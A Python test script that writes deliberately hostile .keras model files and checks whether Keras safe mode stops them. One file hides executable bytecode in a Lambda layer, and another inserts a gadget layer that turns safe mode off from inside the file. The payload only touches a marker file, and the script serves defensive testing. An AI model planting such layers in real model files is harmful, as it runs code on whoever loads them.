"""Writes hostile `.keras` files and checks what plain Keras does with them.

`python tests/crafted_models.py OUT_DIR` (a fresh process, because loading
with safe_mode=False changes process-wide Keras state) writes

- `lambda/keras/encoder.keras`: a model whose Lambda layer holds Python
  bytecode that creates `lambda.marker` when it runs;
- `unsafe/keras/encoder.keras`: the same, preceded by a Lambda layer whose
  function is `keras.config.enable_unsafe_deserialization` (the
  CVE-2025-9906 pattern: switch safe mode off from inside the file);

and `report.json`: whether the payload runs when loaded with
safe_mode=False (the positive control: the files really are hostile) and
what `keras.saving.load_model(..., safe_mode=True)` does with each.
"""

import json
import os
import sys
import zipfile

from tf_mbalign import runtime  # noqa: E402

runtime.set_tensorflow_environment_defaults()  # before TensorFlow loads

import keras
from keras.src.saving import serialization_lib


def _payload(marker):
    # Built from source so the bytecode holds the marker path as a constant.
    return eval(f"lambda x: (__import__('pathlib').Path({marker!r}).touch(), x)[1]")  # noqa: S307


def write_lambda_file(path, marker):
    inputs = keras.Input((4,))
    outputs = keras.layers.Lambda(_payload(marker), name="payload")(inputs)
    keras.Model(inputs, outputs).save(path)
    if os.path.exists(marker):
        os.remove(marker)  # Building the model ran the lambda once.


def write_enable_unsafe_file(lambda_path, path):
    with zipfile.ZipFile(lambda_path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(members["config.json"])
    layers = config["config"]["layers"]
    payload = next(layer for layer in layers if layer["class_name"] == "Lambda")
    gadget = json.loads(json.dumps(payload))
    gadget["name"] = gadget["config"]["name"] = "switch_safe_mode_off"
    gadget["config"]["function"] = {
        "module": "keras.config", "class_name": "function",
        "config": "enable_unsafe_deserialization", "registered_name": "function",
    }
    gadget["config"]["arguments"] = {}
    input_name = layers[0]["name"]
    gadget["inbound_nodes"] = [{"args": [{"class_name": "__keras_tensor__", "config": {
        "shape": [None, 4], "dtype": "float32", "keras_history": [input_name, 0, 0]}}],
        "kwargs": {}}]
    # The payload now reads the gadget's output, so the gadget runs first.
    payload["inbound_nodes"] = [{"args": [{"class_name": "__keras_tensor__", "config": {
        "shape": [None, 4], "dtype": "float32",
        "keras_history": ["switch_safe_mode_off", 0, 0]}}], "kwargs": {}}]
    layers.insert(1, gadget)
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def _try_load(path, safe_mode):
    try:
        keras.saving.load_model(path, safe_mode=safe_mode)
    except Exception as error:  # Keras raises several types; record which.
        return f"{type(error).__name__}: {str(error)[:300]}"
    return None


def main(out_dir):
    files = {name: os.path.join(out_dir, name, "keras", "encoder.keras")
             for name in ("lambda", "unsafe")}
    markers = {name: os.path.join(out_dir, f"{name}.marker") for name in files}
    for path in files.values():
        os.makedirs(os.path.dirname(path), exist_ok=True)
    write_lambda_file(files["lambda"], markers["lambda"])
    write_lambda_file(files["unsafe"] + ".base.keras", markers["unsafe"])
    write_enable_unsafe_file(files["unsafe"] + ".base.keras", files["unsafe"])
    os.remove(files["unsafe"] + ".base.keras")

    report = {"keras": keras.__version__, "safe": {}}
    for name, path in files.items():
        error = _try_load(path, safe_mode=True)
        report["safe"][name] = {"error": error, "payload_ran": os.path.exists(markers[name]),
                                "safe_mode_after": serialization_lib.in_safe_mode()}
    # Positive control, last (it switches safe mode off for this process).
    report["unsafe_load_error"] = _try_load(files["lambda"], safe_mode=False)
    report["unsafe_load_ran_payload"] = os.path.exists(markers["lambda"])
    if os.path.exists(markers["lambda"]):
        os.remove(markers["lambda"])
    with open(os.path.join(out_dir, "report.json"), "w") as f:
        json.dump(report, f, indent=1)


if __name__ == "__main__":
    main(sys.argv[1])
